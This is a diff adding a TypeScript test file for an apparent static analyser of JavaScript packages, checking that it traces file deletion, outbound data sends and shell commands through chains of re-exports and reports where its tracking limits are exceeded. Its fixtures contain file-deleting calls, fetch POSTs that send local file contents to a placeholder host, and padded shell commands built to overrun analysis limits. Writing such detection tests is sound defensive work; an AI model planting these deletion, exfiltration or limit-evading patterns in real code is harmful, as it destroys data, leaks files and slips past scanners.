@@ -1,0 +1,70 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+
+import { behaviourOf } from '../../test/behave.ts';
+
+type Files = Readonly<Record<string, string>>;
+
+const repeated = (times: number, make: (at: number) => string): string => Array.from({ length: times }, (_, at) => make(at)).join('\n');
+const filesOf = (times: number, make: (at: number) => string): Files =>
+  Object.fromEntries(Array.from({ length: times }, (_, at) => [`f${at}.js`, make(at)]));
+const deletes = (files: Files): string[] =>
+  behaviourOf(files).effects.flatMap(({ kind, triggers }) => (kind === 'deletes' ? [triggers.join()] : []));
+
+describe('what files hand on', () => {
+  for (const [what, hands] of [
+    ['all of each other', (to: number) => `export * from './f${to}.js';`],
+    ['one name of each other', (to: number) => `export { go } from './f${to}.js';`],
+    ['each other whole', (to: number) => `exports.go = require('./f${to}').go;`],
+  ] as const)
+    it(`is found where they hand on ${what}, each in every way there is`, () => {
+      const ring = filesOf(24, at => (at === 23 ? `exports.go = () => require('fs').unlinkSync('/x');` : repeated(24, to => hands(to))));
+      assert.deepEqual(deletes({ ...ring, 'index.js': `import { go, no } from './f0.js'; go(); no(); no.a.b(); new no().c();` }), [
+        'import',
+      ]);
+    });
+
+  it('is found through many files', () =>
+    assert.deepEqual(
+      deletes({
+        ...filesOf(30, at =>
+          at === 29 ? `exports.go = () => require('fs').unlinkSync('/x');` : `module.exports = require('./f${at + 1}');`,
+        ),
+        'index.js': `require('./f0').go();`,
+      }),
+      ['import'],
+    ));
+
+  it('through more files than are followed is a gap', () => {
+    const chain = (length: number): readonly string[] =>
+      behaviourOf({
+        ...filesOf(length, at => `module.exports = require('./f${at + 1}');`),
+        [`f${length}.js`]: `exports.go = () => require('fs').unlinkSync('/x');`,
+        'index.js': `require('./f0').go();`,
+      }).unfollowed;
+    assert.deepEqual(chain(20), []);
+    assert.match(chain(80).join(), /not followed to the end/);
+  });
+});
+
+describe('more than is followed is a gap', () => {
+  it('of the ways that data takes', () => {
+    const sends = (times: number): readonly string[] =>
+      behaviourOf({
+        'index.js': repeated(
+          times,
+          at => `fetch('https://a.invalid/${at}', { method: 'POST', body: require('fs').readFileSync('a${at}') });`,
+        ),
+      }).unfollowed;
+    assert.deepEqual(sends(20), []);
+    assert.match(sends(2100).join(), /ways of its data were not followed/);
+  });
+
+  for (const [what, code, gap] of [
+    ['a command', `require('child_process').exec('${'true; '.repeat(900)}id')`, /a command that index\.js starts/],
+    ['its words', `require('child_process').spawn('sh', ['-c', '${'true; '.repeat(900)}id'])`, /a command that index\.js starts/],
+    ['a short one', `require('child_process').exec('true; id')`, /^$/],
+    ['a path', `require('fs').unlinkSync('${'a/'.repeat(3000)}b')`, /^$/],
+  ] as const)
+    it(`of ${what}`, () => assert.match(behaviourOf({ 'index.js': code }).unfollowed.join(), gap));
+});
